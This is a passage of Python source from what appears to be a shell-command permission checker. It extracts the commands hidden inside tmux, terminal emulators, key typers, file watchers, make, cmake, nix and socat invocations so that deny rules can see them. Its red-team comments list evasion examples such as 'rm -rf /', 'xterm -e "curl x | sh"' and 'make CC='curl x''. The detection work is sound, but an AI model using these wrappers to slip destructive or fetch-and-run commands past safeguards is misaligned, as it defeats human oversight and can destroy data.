    """What a `set-option` leaves to run later: a line option's value, a hook's tmux command, an alias's body."""
    operands = _tmux_operands(args, "uU")
    if not operands or len(operands) < 2:
        return _NOTHING
    name, value = operands[0], operands[1]
    if _tmux_option(name, _TMUX_LINE_OPTIONS):
        return Carried((value,))
    if _tmux_option(name, _TMUX_HOOKS):
        body = value.partition("=")[2] if name.lower().startswith("command-a") else value
        return Carried((f"tmux {body}",)) if body.strip() else _NOTHING
    return _NOTHING


def _tmux_environment(args: tuple[str, ...]) -> Carried:
    """red team: `tmux setenv -g PAGER 'cmd'` sets what every later pane's programs read, as `export PAGER='cmd'`
    does for the shell's: read as that export (its command-valued and code-loading variables, R4.9)."""
    operands = _tmux_operands(args, "ru")
    if not operands or not operands[0].isidentifier():
        return _NOTHING
    value = operands[1] if len(operands) > 1 else ""
    return Carried((f"export {quote(operands[0] + '=' + value)}",))


def _tmux_jobs(words: tuple[str, ...]) -> list[str]:
    """red team: the shell commands of tmux's `#(...)` formats in ``words`` -- run by a status line, a border, a
    `display-message`, a `-F` template, `setenv -F`, wherever tmux expands one (the end found as tmux does,
    counting parentheses; with none, the rest of the word)."""
    jobs: list[str] = []
    for w in words:
        at = w.find("#(")
        while at >= 0:
            depth, k = 1, at + 2
            while k < len(w) and depth:
                depth += (w[k] == "(") - (w[k] == ")")
                k += 1
            jobs.append(w[at + 2 : k - 1] if depth == 0 else w[at + 2 :])
            at = w.find("#(", k)
    return [j for j in jobs if j.strip()]


def _tmux_chunks(view: tuple[str, ...]) -> list[tuple[str, ...]]:
    """The commands of one tmux run: its words split where tmux splits them (a `;` word, or a word ending in
    an unescaped `;`) -- every command is read, not only the first (`tmux set -g mouse on \\; new -d CMD`)."""
    chunks: list[tuple[str, ...]] = []
    start = 1
    for k in range(1, len(view) + 1):
        if k == len(view):
            chunks.append(view[start:])
        elif view[k] == ";" or (view[k].endswith(";") and not view[k].endswith("\\;")):
            chunks.append((*view[start:k], view[k][:-1]) if view[k] != ";" else view[start:k])
            start = k + 1
    return chunks


def _tmux(view: tuple[str, ...]) -> Carried:
    view, line = _tmux_read(view)
    if line is not None:
        return Carried((line,)) if line.strip() else _NOTHING
    scripts: list[str] = _tmux_jobs(view[1:])
    unseen = None
    for chunk in _tmux_chunks(view):
        found = _tmux_command_carried(chunk)
        scripts += found.scripts
        unseen = unseen or found.unseen
    if not scripts and unseen is None:
        return _NOTHING
    return Carried(tuple(dict.fromkeys(scripts)), None, unseen)


def _tmux_command_carried(chunk: tuple[str, ...]) -> Carried:
    """What one tmux command of a run carries (its words, the command's name among them)."""
    for k, w in enumerate(chunk):
        if w in _TMUX_TYPES:
            # red team: the words typed, each judged as a command line too (`send-keys 'rm -rf /' Enter`)
            typed = tuple(a for a in chunk[k + 1 :] if a[:1] != "-" and a.strip())
            return Carried(typed, None, "tmux types keys into a shell, which no rule can read")
        if w in _TMUX_LATER:
            given = [a for a in chunk[k + 1 :] if a[:1] != "-"]
            return Carried((*(f"tmux {a}" for a in given), f"tmux {_argv(tuple(given))}") if given else ())
        if w in _TMUX_SET:
            return _tmux_set(chunk[k + 1 :])
        if w in _TMUX_ENVIRONMENT:
            return _tmux_environment(chunk[k + 1 :])
        if w in _TMUX_SHELL:
            # Every word after the subcommand that is not an option could be the command (options and their
            # values are not told apart here: judging more words only makes deny see more), and so could
            # the words after the subcommand's options, together (R4.10: `tmux new -d rm -rf /`).
            found = tuple(a for a in chunk[k + 1 :] if a[:1] != "-")
            values = _TMUX_VALUES.get(w)
            line = _tmux_command(chunk[k + 1 :], values) if values is not None else None
            if line is not None and line not in found:
                found += (line,)
            return Carried(found)
    return _NOTHING


def _byobu(view: tuple[str, ...]) -> Carried:
    """red team: byobu hands its words to tmux (`byobu new -d 'cmd'`, read as tmux's) or, with screen behind it, to
    screen (`byobu -dm cmd`): then the command starts at one of its first operands (each judged)."""
    found = _tmux(view)
    if found is not _NOTHING:
        return found
    starts = [k for k in range(1, len(view)) if view[k][:1] != "-"][:3]
    if not starts or _tmux_name(view[starts[0]]) in _TMUX_NAMES or view[starts[0]] in _TMUX_ALIASES:
        return _NOTHING
    return Carried(tuple(_argv(view[k:]) for k in starts))


# red team: programs that type keys or text into another window, pane or terminal -- what the keys run there no
# rule can read (as `tmux send-keys`): X's and Wayland's input tools (xdotool's `exec` runs a command), macOS's
# cliclick, xautomation's xte; the other terminals' and multiplexers' remote control, whose spawns run a
# command in a pane of their own (`zellij run -- cmd`, `wezterm cli spawn -- cmd`, `kitty @ launch cmd`).
_KEY_TYPERS: dict[str, frozenset[str] | None] = {
    "xdotool": frozenset({"type", "key", "keydown", "keyup", "click", "mousedown", "mouseup", "exec"}),
    "ydotool": frozenset({"type", "key", "click", "mousedown", "mouseup"}),
    "dotool": None,
    "wtype": None,
    "xte": None,
    "cliclick": None,
    "kitty": frozenset({"send-text", "send-key", "launch", "new-window", "run"}),
    "kitten": frozenset({"send-text", "send-key", "launch", "run"}),
    "wezterm": frozenset({"send-text", "spawn", "split-pane"}),
    "zellij": frozenset({"write", "write-chars", "run", "new-pane", "edit"}),
    "screen": frozenset({"stuff"}),
}


def _key_typer(view: tuple[str, ...]) -> Carried:
    """red team: keys typed or a command run in another window or pane (_KEY_TYPERS): an action word among the
    words (after the tools' own subcommand groups, `kitty @ send-text`, `zellij action write-chars`), or any
    run of the tools typing whatever they are given."""
    acts = _KEY_TYPERS[view[0]]
    if acts is None:  # (dotool and `wtype -` read what to type from the input)
        typing = not any(w in ("-h", "--help", "-V", "--version") for w in view[1:])
    else:
        typing = not acts.isdisjoint(view[1:])
        if view[0] == "xdotool" and len(view) > 1 and (view[1] == "-" or "/" in view[1] or "." in view[1]):
            typing = True  # `xdotool script.xdo`, `xdotool -`: a script of commands
    if typing:
        return Carried(
            _typed_lines(view, acts),
            None,
            f"{view[0]} types keys or runs a command in another window, which no rule can read",
        )
    return _NOTHING


def _typed_lines(view: tuple[str, ...], acts: frozenset[str] | None) -> tuple[str, ...]:
    """red team (R4.6, R4.7): what a key typer types or a pane it spawns runs, judged as command lines (deny sees
    more): after its act, the words after `--` as one command, and each operand alone and from there on
    (`zellij run -- rm -rf /`, `wezterm cli send-text 'rm -rf /'`, `kitten @ launch -- rm -rf /`)."""
    at = next((k for k, w in enumerate(view) if acts is not None and w in acts), 0) + 1
    rest = view[at:]
    if "--" in rest:
        tail = rest[rest.index("--") + 1 :]
        return (_argv(tail),) if tail else ()
    operands = [k for k, w in enumerate(rest) if w[:1] != "-" and w.strip()]
    return tuple(dict.fromkeys([rest[k] for k in operands] + [_argv(rest[k:]) for k in operands[:1]]))


# red team: terminal emulators run the command their exec option (or `--`) is given in a new window: as argv
# (`alacritty -e curl x`), or -- one word -- through a shell (`xterm -e "curl x | sh"`, `tilix -e "..."`,
# `gnome-terminal --command="..."`). Both readings are judged (judging more only makes a deny see more); the
# ones whose operands are the command with no option (kitty, foot) are read as wrappers (wrappers.py).
_TERMINAL_EXEC = ("-e", "-x", "--command", "--execute", "--exec", "--")
_TERMINALS = frozenset(
    "xterm uxterm urxvt rxvt alacritty konsole gnome-terminal kitty foot footclient terminator ghostty st "
    "x-terminal-emulator xfce4-terminal tilix mate-terminal lxterminal qterminal terminology sakura guake "
    "cool-retro-term ptyxis kgx gnome-console rio contour wt wt.exe".split()
)


def _terminal(view: tuple[str, ...]) -> Carried:
    scripts: list[str] = []
    args = view[2:] if view[0] == "wezterm" else view[1:]  # `wezterm start -- cmd`
    for k, w in enumerate(args):
        name, eq, value = w.partition("=")
        if eq and name in _TERMINAL_EXEC:
            scripts.append(value)
        elif w in _TERMINAL_EXEC and k + 1 < len(args):
            rest = args[k + 1 :]
            scripts.append(rest[0])
            if len(rest) > 1:
                scripts.append(_argv(rest))
            break
    if view[0] in ("wt", "wt.exe") and not scripts:
        # `wt.exe new-tab -p x cmd args`: the command starts at one of the first operands (each judged)
        starts = [k for k in range(1, len(view)) if view[k][:1] != "-"][:6]
        scripts.extend(_argv(view[k:]) for k in starts)
    return Carried(tuple(scripts)) if scripts else _NOTHING


def _wezterm(view: tuple[str, ...]) -> Carried:
    if len(view) > 1 and view[1] == "start":
        return _terminal(view)
    return _key_typer(view)


# concurrently's options that take the next word as their value; every other operand is a command line
# (run through a shell).
_CONCURRENTLY_VALUES = frozenset(
    "-n --names -c --prefix-colors -p --prefix -l --prefix-length -t --timestamp-format -s --success"
    " -m --max-processes --restart-tries --restart-after --default-input-target --hide --names-separator"
    " --pad-prefix --kill-signal --teardown".split()
)


def _concurrently(view: tuple[str, ...]) -> Carried:
    """R4.9: `concurrently 'cmd a' 'cmd b'` runs each command line it is given through a shell."""
    scripts: list[str] = []
    skip = False
    for w in view[1:]:
        if skip:
            skip = False
        elif w[:1] == "-" and w != "-":
            skip = w in _CONCURRENTLY_VALUES
        elif w.strip():
            scripts.append(w)
    return Carried(tuple(scripts)) if scripts else _NOTHING


def _every_operand_a_line(view: tuple[str, ...]) -> Carried:
    """red team, R4.9: moreutils' `pee 'cmd a' 'cmd b'` and `mispipe 'cmd a' 'cmd b'` run each operand through
    a shell (their options are flags)."""
    scripts = tuple(w for w in view[1:] if w[:1] != "-" and w.strip())
    return Carried(scripts) if scripts else _NOTHING


# Watchers and benchmark runners that run command lines they are given through a shell (R4.9): each one's
# options whose value is a command line, options whose value is anything else, and what its operands are:
# each a command line (hyperfine's, _EACH), one command line from the first on (watchexec's and pueue's
# trailing words, which they join and hand to a shell, _REST), or files/globs (chokidar's, onchange's before
# `--`, _FILES).
_FILES, _EACH, _REST = 0, 1, 2
_LINE_RUNNERS: dict[str, tuple[frozenset[str], frozenset[str], int]] = {
    "hyperfine": (
        frozenset({"-p", "--prepare", "--conclude", "-s", "--setup", "-c", "--cleanup"}),
        frozenset(
            "-w --warmup -m --min-runs -M --max-runs -r --runs -D --parameter-step-size -S --shell --style"
            " --sort -u --time-unit --export-asciidoc --export-csv --export-json --export-markdown"
            " --export-orgmode --output --input -n --command-name".split()
        ),
        _EACH,
    ),
    "watchexec": (
        frozenset(),
        frozenset(
            "-w --watch -W --watch-non-recursive -e --exts -f --filter -i --ignore -d --debounce --delay-run"
            " -s --signal --stop-signal --stop-timeout --shell -E --env --project-origin --workdir"
            " --emit-events-to --on-busy-update --filter-file --ignore-file --poll --timeout".split()
        ),
        _REST,
    ),
    "nodemon": (
        frozenset({"-x", "--exec"}),
        frozenset("-w --watch -e --ext -i --ignore -d --delay".split()),
        _FILES,
    ),
    "chokidar": (
        frozenset({"-c", "--command"}),
        frozenset("-d --debounce -t --throttle -i --ignore".split()),
        _FILES,
    ),
    "onchange": (frozenset(), frozenset("-e --exclude -d --delay -k --kill -j --jobs".split()), _FILES),
    # red team: the xargs-likes that run one command line for each input record -- shenwei356's rush (its line
    # is the operand, `{}` the record) and xe (its trailing words, as xargs' are).
    "rush": (
        frozenset(),
        frozenset(
            "-j --jobs -D --delimiter -d --field-delimiter -J --records-join-sep -n --nrecords -i --infile"
            " -o --out-file -t --timeout -r --retries --retry-interval -C --succeed-cmd-file -v --assign"
            " --shell --cmd-file -I --propagate-exit-status".split()
        ),
        _REST,
    ),
    "xe": (frozenset({"-s"}), frozenset("-I -N -j -a -A -C".split()), _REST),  # -s: a shell script's line
    # red team: more watchers -- Ruby's rerun (`rerun -- cmd`, `rerun 'cmd'`: its trailing words, one line),
    # watchdog's `watchmedo shell-command -c 'cmd'`, `watchfiles 'cmd' paths` (its target, or a Python
    # function's dotted name), tsc-watch's `--onSuccess 'cmd'` and the like, `watchman-make --run 'cmd'`
    # (its `--make` program too).
    "rerun": (
        frozenset(),
        frozenset("-d --dir -p --pattern -i --ignore -s --signal -n --name -w --wait --restart".split()),
        _REST,
    ),
    "watchmedo": (
        frozenset({"-c", "--command"}),
        frozenset(
            "-p --patterns -i --ignore-patterns --interval --timeout -w --wait --drop --debug-force-polling"
            " --signal --kill-after -d --directory".split()
        ),
        _FILES,
    ),
    "watchfiles": (
        frozenset(),
        frozenset(
            "--ignore-paths --target-type --filter --args --verbosity --sigint-timeout --sigkill-timeout"
            " --grace-period".split()
        ),
        _EACH,
    ),
    "tsc-watch": (
        frozenset(
            "--onSuccess --onFailure --onFirstSuccess --onCompilationStarted --onCompilationComplete"
            " --onEmit".split()
        ),
        frozenset("-p --project --compiler --outDir --signalEmittedFiles".split()),
        _FILES,
    ),
    # forever's `-c CMD` runs the script with CMD (`forever start -c 'cmd' x.js`)
    "forever": (
        frozenset({"-c", "--command"}),
        frozenset(
            "-l -o -e -p -m --pidFile --uid --sourceDir --workingDir --minUptime --spinSleepTime --killSignal"
            " --id".split()
        ),
        _FILES,
    ),
    "watchman-make": (
        frozenset({"-r", "--run", "--make"}),
        frozenset("-p --pattern -t --target -s --settle --root -c --connect-timeout".split()),
        _FILES,
    ),
    # pueue's `add` (its subcommand is read by _line_runner): the words after its options, one shell line.
    "pueue": (
        frozenset(),
        frozenset("-d --delay -g --group -a --after -o --priority -l --label -w --working-directory".split()),
        _REST,
    ),
}


# red team, R4.9: the runners' own shell option, whose value is a command line (split into words, "bash --norc"):
# every command line runs as `SHELL -c LINE` (`hyperfine -S 'rm -rf /' x`, `watchexec --shell=./evil -- make`);
# "none" runs each line as argv with no shell, "default" the usual one.
_RUNNER_SHELLS = {"hyperfine": ("-S", "--shell"), "watchexec": ("--shell",)}


def _runner_shell(view: tuple[str, ...], names: tuple[str, ...]) -> str | None:
    """The last value of a runner's shell option (`-S X`, `-SX`, `--shell X`, `--shell=X`) before `--`."""
    found = None
    for k, w in enumerate(view[1:], 1):
        if w == "--":
            break
        name, eq, value = w.partition("=")
        if name in names:
            found = value if eq else (view[k + 1] if k + 1 < len(view) else "")
        elif w[:2] in names and w[1:2] != "-":
            found = w[2:]
    return None if found is None or found.strip() in ("none", "default", "") else found


def _line_runner(view: tuple[str, ...]) -> Carried:
    found = _line_runner_lines(view)
    shell = _runner_shell(view, _RUNNER_SHELLS[view[0]]) if view[0] in _RUNNER_SHELLS else None
    if shell is None:
        return found
    return Carried(tuple(f"{shell} -c {quote(line)}" for line in found.scripts) or (shell,))


def _line_runner_lines(view: tuple[str, ...]) -> Carried:
    """R4.9: a watcher or benchmark runner's command lines (`hyperfine 'npm test'`, `watchexec -- cargo
    test`, `nodemon --exec 'npm start'`, `chokidar 'src/**' -c 'npm test'`, `onchange 'src' -- npm test`).
    Everything after `--` is one command line; an option of unknown arity makes its next word a line too
    when the runner's operands are lines (fail closed)."""
    lines, values, operands = _LINE_RUNNERS[view[0]]
    scripts: list[str] = []
    k = 1
    n = len(view)
    if view[0] == "pueue":
        if n < 2 or view[1] != "add":
            return _NOTHING  # `pueue status`, `pueue log`: no command line
        k = 2
    while k < n:
        w = view[k]
        if w == "--":
            rest = " ".join(view[k + 1 :])
            if rest.strip():
                scripts.append(rest)
            break
        name, eq, value = w.partition("=")
        if w[:1] == "-" and len(w) > 1:
            if name in lines:
                line = value if eq else (view[k + 1] if k + 1 < n else "")
                if line.strip():
                    scripts.append(line)
                k += 1 if eq else 2
                continue
            k += 2 if (name in values and not eq) else 1
            continue
        if operands == _REST:
            rest = " ".join(view[k:])
            if rest.strip():
                scripts.append(rest)
            break
        if operands == _EACH and w.strip():
            scripts.append(w)
        k += 1
    return Carried(tuple(scripts)) if scripts else _NOTHING


# red team, R4.9 on Windows: the system's own programs that start the program they are given -- the Program
# Compatibility Assistant (`pcalua -a prog -c "args"`), App-V's script runner (`scriptrunner -appvscript prog
# args`), the console host (`conhost [--headless] prog args`) and forfiles' command for each file (`forfiles /c
# "cmd /c x"`): each program and its arguments a segment, as `env prog args` is.
_CONHOST_VALUES = frozenset(
    {"--width", "--height", "--signal", "--server", "--vtmode", "--feature", "--textmeasurement"}
)
_SCRIPTRUNNER_ENDS = frozenset(
    {"-appvscript", "/appvscript", "-appvscriptrunnerparameters", "/appvscriptrunnerparameters"}
)


def _option_named(word: str) -> str:
    """A Windows program's option as it compares them: lower case, `/x` as `-x`."""
    return "-" + word[1:].lower() if word[:1] in "-/" else ""


def _pcalua(view: tuple[str, ...]) -> Carried:
    program = args = ""
    for k in range(1, len(view) - 1):
        name = _option_named(view[k])
        if name == "-a":
            program = view[k + 1]
        elif name == "-c":
            args = view[k + 1]
    return Carried((f"{quote(program)} {args}",)) if program.strip() else _NOTHING


def _scriptrunner(view: tuple[str, ...]) -> Carried:
    lines: list[str] = []
    k = 1
    while k < len(view):
        if _option_named(view[k]) != "-appvscript":
            k += 1
            continue
        end = k + 1
        while end < len(view) and view[end].lower() not in _SCRIPTRUNNER_ENDS:
            end += 1
        if end > k + 1:
            lines.append(_argv(view[k + 1 : end]))
        k = end
    return Carried(tuple(lines)) if lines else _NOTHING


def _conhost(view: tuple[str, ...]) -> Carried:
    k = 1
    while k < len(view) and view[k][:2] == "--":
        if view[k] == "--":
            k += 1
            break
        k += 2 if view[k].lower() in _CONHOST_VALUES else 1
    return Carried((_argv(view[k:]),)) if view[k:] else _NOTHING


def _forfiles(view: tuple[str, ...]) -> Carried:
    lines = tuple(view[k + 1] for k in range(1, len(view) - 1) if _option_named(view[k]) == "-c")
    return Carried(lines) if any(w.strip() for w in lines) else _NOTHING


# bun's options that take the next word, before its subcommand (`bun --cwd sub exec '…'`).
_BUN_VALUES = frozenset({"--cwd", "-c", "--config", "--env-file", "-r", "--preload", "-F", "--filter"})


def _bun(view: tuple[str, ...]) -> Carried:
    """R4.9: `bun exec 'cmd'` runs cmd in Bun's shell (bash-like: its pipes, `&&`, substitutions)."""
    k = 1
    while k < len(view) and view[k][:1] == "-":
        k += 2 if view[k] in _BUN_VALUES else 1
    if k < len(view) and view[k] == "exec":
        line = " ".join(view[k + 1 :])
        return Carried((line,)) if line.strip() else _NOTHING
    return _NOTHING


# `deno task`'s options that take the next word.
_DENO_TASK_VALUES = frozenset({"--cwd", "-c", "--config", "-f", "--filter"})


def _deno(view: tuple[str, ...]) -> Carried:
    """R4.9: `deno task --eval 'cmd' args` runs cmd (with args appended) as a task, through deno's shell;
    a task named in deno.json (`deno task build`) is read no further, as `npm run build` is."""
    if len(view) < 3 or view[1] != "task" or "--eval" not in view:
        return _NOTHING
    operands: list[str] = []
    k = 2
    while k < len(view):
        w = view[k]
        k += 1
        if w == "--":
            operands.extend(view[k:])
            break
        if w in _DENO_TASK_VALUES:
            k += 1
        elif w[:1] != "-":
            operands.append(w)
    line = " ".join(operands)
    return Carried((line,)) if line.strip() else _NOTHING


def _man(view: tuple[str, ...]) -> Carried:
    scripts: list[str] = _man_browser(view)
    for k, w in enumerate(view[1:], 1):
        if w == "-P" or w == "--pager":
            if k + 1 < len(view):
                scripts.append(view[k + 1])
        elif w.startswith("--pager="):
            scripts.append(w[len("--pager=") :])
        elif w.startswith("-P") and len(w) > 2:
            scripts.append(w[2:])
    return Carried(tuple(s for s in scripts if s.strip())) if scripts else _NOTHING


def _man_browser(view: tuple[str, ...]) -> list[str]:
    """`man -Hcmd` / `man --html=cmd`: the browser man runs (the value is attached only)."""
    out: list[str] = []
    for w in view[1:]:
        if w.startswith("--html="):
            out.append(w[len("--html=") :])
        elif w.startswith("-H") and len(w) > 2:
            out.append(w[2:])
    return out


def _fd(view: tuple[str, ...]) -> Carried:
    """R4.9: `fd -x cmd args`, `fd --exec-batch cmd` run a command (argv, up to `;`) for each match."""
    for k, w in enumerate(view[1:], 1):
        if w in ("-x", "--exec", "-X", "--exec-batch"):
            argv = view[k + 1 :]
            if ";" in argv:
                argv = argv[: argv.index(";")]
            if not argv:
                return Carried(())
            # R4.6, red team: and with each folder it searches in place of what it finds there (`fd . / -x rm
            # -rf` deletes what is under `/`, as `find / -exec rm -rf {} +` does, which the floor reads so)
            places = _fd_places(view[1:k])[:_PARALLEL_ARGS_READ]
            searched = [
                " ".join(_as_given(a.replace("{}", place)) for a in argv)
                if "{}" in argv
                else f"{_argv(argv)} {_as_given(place)}"
                for place in places
            ]
            if argv[0].rpartition("/")[2] in _ONE_FILE_DELETERS:
                # red team: a deleter of one file run on each file fd finds below a folder deletes the folder's
                # every file, as `rm -r` of it (`fd . ~ -x rm`, `fd -t f . / -X shred -u`: find's -exec so read)
                searched += [f"rm -r -- {_as_given(place)}" for place in places]
            return Carried((_argv(argv), *searched))
    return _NOTHING


# The programs that delete, empty or overwrite one file at a time (floor.EXEC_DELETERS, the ones find's -exec is
# read with), their GNU-prefixed names too.
_ONE_FILE_DELETERS = frozenset(
    {"rm", "grm", "unlink", "gunlink", "shred", "gshred", "srm", "wipe", "rmtrash", "truncate", "gtruncate"}
)


# fd's options that take the next word (`fd -e py -d 2 x src`), and those naming a folder it searches from.
_FD_VALUES = frozenset(
    "-t -e -E -d -S -c -j -o --type --extension --exclude --max-depth --min-depth --exact-depth --size --color"
    " --threads --changed-within --changed-before --change-newer-than --change-older-than --newer --older --owner"
    " --base-directory --path-separator --search-path --ignore-file --max-results --batch-size --format --and".split()
)
_FD_FOLDERS = ("--search-path", "--base-directory")


def _fd_places(words: tuple[str, ...]) -> list[str]:
    """The folders `fd [options] [pattern] [path]...` searches that its words name (none: the working folder)."""
    positional: list[str] = []
    places: list[str] = []
    k = 0
    while k < len(words):
        w = words[k]
        name, eq, value = w.partition("=")
        if w[:1] == "-" and w != "-":
            if name in _FD_FOLDERS:
                places.append(value if eq else words[k + 1] if k + 1 < len(words) else "")
            k += 2 if name in _FD_VALUES and not eq else 1
            continue
        positional.append(w)
        k += 1
    return [p for p in (*places, *positional[1:]) if p]


def _option_programs(view: tuple[str, ...], longs: tuple[str, ...], shorts: tuple[str, ...]) -> Carried:
    """The programs named by options such as `rg --pre CMD`, `zip -TT CMD` (exec'd or run by a shell)."""
    scripts: list[str] = []
    n = len(view)
    for k, w in enumerate(view[1:], 1):
        if w == "--":
            break
        name, eq, value = w.partition("=")
        if name in longs or w in shorts:
            if not eq or w in shorts:
                value = view[k + 1] if k + 1 < n else ""
            if value.strip():
                scripts.append(value)
    return Carried(tuple(scripts)) if scripts else _NOTHING


def _rg(view: tuple[str, ...]) -> Carried:
    return _option_programs(view, ("--pre", "--hostname-bin"), ())


def _diff_program(view: tuple[str, ...]) -> Carried:
    """red team: `sdiff --diff-program=CMD`, `diff3 --diff-program CMD` exec CMD (getopt takes `--d` and up)."""
    values = _long_values(view, "--diff-program", 3)
    return Carried((quote(values[0]),)) if values else _NOTHING


def _zip(view: tuple[str, ...]) -> Carried:
    """zip's `-TT CMD` / `--unzip-command CMD` (run through a shell to test the archive); red team: also the value
    in the same word (`-TTcmd`, `-TT=cmd`) and the long name shortened (`--unzip-c cmd`), read whether or not
    this zip takes them (fail closed)."""
    scripts: list[str] = []
    n = len(view)
    for k, w in enumerate(view[1:], 1):
        if w == "--":
            break
        name, eq, value = w.partition("=")
        if w[:3] == "-TT":
            value = w[3:].removeprefix("=") or (view[k + 1] if k + 1 < n else "")
        elif len(name) >= 7 and "--unzip-command".startswith(name):
            value = value if eq else (view[k + 1] if k + 1 < n else "")
        else:
            continue
        if value.strip():
            scripts.append(value)
    return Carried(tuple(scripts)) if scripts else _NOTHING


# Make variables that choose the program every recipe line is run by.
_MAKE_SHELL_VARS = ("SHELL=", "MAKESHELL=", ".SHELLFLAGS=", "SHELL:=", "SHELL::=")


def _make(view: tuple[str, ...]) -> Carried:
    """R4.9: `make SHELL=prog` runs every recipe line through ``prog``: it is read as a command and the
    recipes it runs cannot be read. red team: a variable given on the command line overrides the makefile's --
    `make CC='curl x'` runs curl as the compiler, `make X='$(shell cmd)'` runs cmd where X is expanded, `make
    'X!=cmd'` runs cmd at once (build_variable reads them as the environment's)."""
    scripts: list[str] = []
    unseen = None
    for w in view[1:]:
        eq = w.find("=")
        if eq <= 0 or w[:1] == "-":
            continue
        if w.startswith(_MAKE_SHELL_VARS):
            name, _, value = w.partition("=")
            if not name.startswith(".") and value.strip():
                scripts.append(value)  # the program, with `.SHELLFLAGS` and the recipe line as arguments
            unseen = unseen or "make runs its recipes through another program"
            continue
        name, value = w[:eq].rstrip(":+?!").strip(), w[eq + 1 :]
        if w[eq - 1] == "!":
            scripts.append(value)  # a shell assignment: make runs it as it reads the command line
            continue
        built, why = build_variable(name, value)
        scripts.extend(built)
        unseen = unseen or why
    if not scripts and unseen is None:
        return _NOTHING
    return Carried(tuple(scripts), None, unseen)


def _configure(view: tuple[str, ...]) -> Carried:
    """red team: an autoconf `configure` script takes the build's programs as `VAR=VALUE` operands (`./configure
    CC='curl x'`) and runs them while it tests the compiler."""
    scripts: list[str] = []
    unseen = None
    for w in view[1:]:
        name, eq, value = w.partition("=")
        if eq and name[:1] != "-":
            built, why = build_variable(name, value)
            scripts.extend(built)
            unseen = unseen or why
    return Carried(tuple(scripts), None, unseen) if scripts or unseen else _NOTHING


# CMake's cache variables that name a program the build runs: compilers, launchers put before them, linkers
# and binary tools, the checkers run beside each compile, the emulator test binaries run under.
_CMAKE_PROGRAM_ENDS = ("_COMPILER_LAUNCHER", "_LINKER_LAUNCHER", "_COMPILER", "_CLANG_TIDY", "_CPPLINT",
                       "_CPPCHECK", "_INCLUDE_WHAT_YOU_USE", "_EMULATOR", "_LINKER", "_PROGRAM", "_AR", "_RANLIB",
                       "_NM", "_OBJCOPY", "_OBJDUMP", "_STRIP", "_READELF", "_ADDR2LINE", "_DLLTOOL", "_MT",
                       "_RC_COMPILER")  # fmt: skip


def _cmake(view: tuple[str, ...]) -> Carried:
    """red team: `cmake -DCMAKE_C_COMPILER_LAUNCHER='curl;-T;x;host' .` -- a cache variable naming a program
    the build runs (a CMake list: the program and its arguments), `-D NAME:TYPE=VALUE` or `-DNAME=VALUE`."""
    scripts: list[str] = []
    for k in range(1, len(view)):
        w = view[k]
        if w[:2] != "-D":
            continue
        w = w[2:] or (view[k + 1] if k + 1 < len(view) else "")
        name, eq, value = w.partition("=")
        name = name.partition(":")[0]
        if eq and name[:6] == "CMAKE_" and name.endswith(_CMAKE_PROGRAM_ENDS) and value.strip():
            # one element with spaces is read as a command line (a generator may write it into a shell's)
            scripts.append(_argv(tuple(p for p in value.split(";") if p)) if ";" in value else value)
    return Carried(tuple(scripts)) if scripts else _NOTHING


def _nix_shell(view: tuple[str, ...]) -> Carried:
    """`nix-shell --run CMD` / `--command CMD` hand CMD to a shell; `nix develop -c cmd args` runs argv."""
    scripts: list[str] = []
    for k, w in enumerate(view[1:], 1):
        if w in ("--run", "--command") and k + 1 < len(view) and view[0] == "nix-shell":
            scripts.append(view[k + 1])
        elif w in ("-c", "--command") and view[0] == "nix" and k + 1 < len(view):
            scripts.append(_argv(view[k + 1 :]))
            break
    unseen = None
    if view[0] == "nix" and len(view) > 1 and view[1] in ("run", "shell") and not scripts:
        unseen = "nix runs a package's program fetched by name, which no rule can read"
        if view[1] == "run":
            scripts = _nix_run(view[2:])
    return Carried(tuple(scripts), None, unseen)


# nix's options that take the next word (two: `--arg NAME EXPR`), before the installable `nix run` runs.
_NIX_VALUES = {
    **dict.fromkeys(("--arg", "--argstr", "--override-input", "--option", "--override-flake"), 2),
    **dict.fromkeys(
        (
            "-I",
            "--include",
            "--inputs-from",
            "-f",
            "--file",
            "--expr",
            "--profile",
            "--store",
            "--eval-store",
            "--reference-lock-file",
            "--output-lock-file",
            "--log-format",
            "-j",
            "--max-jobs",
            "--cores",
        ),
        1,
    ),
}


def _nix_run(words: tuple[str, ...]) -> list[str]:
    """R4.10, red team: `nix run FLAKE#ATTR [--] args` runs the package's program -- named after the attribute's
    last part (`nixpkgs#git`, `nixpkgs#python3Packages.twine`) -- with the args: that command line (`nix run
    nixpkgs#git -- push` is `git push`). An installable naming no attribute (`nix run .`) is read by none."""
    k = 0
    while k < len(words) and words[k][:1] == "-":
        k += 1 + _NIX_VALUES.get(words[k], 0)
    if k >= len(words) or "#" not in words[k]:
        return []
    name = words[k].partition("#")[2].partition("^")[0].rpartition(".")[2].strip("\"'")
    if not name:
        return []
    return [_argv((name, *(w for w in words[k + 1 :] if w != "--")))]


def _vagrant(view: tuple[str, ...]) -> Carried:
    if len(view) > 1 and view[1] == "ssh":
        return Carried(tuple(carried_commands(view[1:])))
    return _NOTHING


def _also_starter(
    reader: Callable[[tuple[str, ...]], Carried] | None,
) -> Callable[[tuple[str, ...]], Carried]:
    """A verb's reader, and what permissions.commands.shell_starters finds: the line it hands a machine's
    shell (`minikube ssh -- cmd`), or that it starts a shell reading its input (`fakeroot`, `poetry shell`)."""

    def read(view: tuple[str, ...]) -> Carried:
        out = reader(view) if reader is not None else _NOTHING
        scripts, unseen = starter_carried(view)
        if not scripts and unseen is None:
            return out
        return Carried(out.scripts + scripts, out.problem, out.unseen or unseen)

    return read


def _hash(view: tuple[str, ...]) -> Carried:
    """R4.9: `hash -p /usr/bin/curl ls` (bash) and `hash ls=/usr/bin/rm` (zsh; `hash -d name=dir` names a
    folder `~name`) make the later command word `ls` run another program. Looking names up (`hash -t git`,
    `hash git`, `hash -r`) changes nothing."""
    if any((w[:1] == "-" and "p" in w) or (w[:1] != "-" and "=" in w) for w in view[1:]):
        return Carried(unseen="'hash' makes a command word run another program")
    return _NOTHING


def _enable(view: tuple[str, ...]) -> Carried:
    """R4.9: `enable -f lib.so name` loads a builtin from a shared object; `enable -n name` turns a
    builtin off so the name runs a program found on PATH. Listing (`enable`, `enable -a`) changes nothing."""
    if any(w[:1] != "-" or "f" in w or "n" in w or "d" in w for w in view[1:]):
        return Carried(unseen="'enable' changes which code a command word runs")
    return _NOTHING


# socat addresses that run a program: `EXEC:cmd args` (argv) and `SYSTEM:cmd` (through a shell).
_SOCAT_RUNS = ("exec:", "system:")


def _socat(view: tuple[str, ...]) -> Carried:
    """R4.9: `socat - EXEC:'curl x'`, `socat SYSTEM:'curl x' -`."""
    scripts: list[str] = []
    for w in view[1:]:
        head, _, rest = w.partition(":")
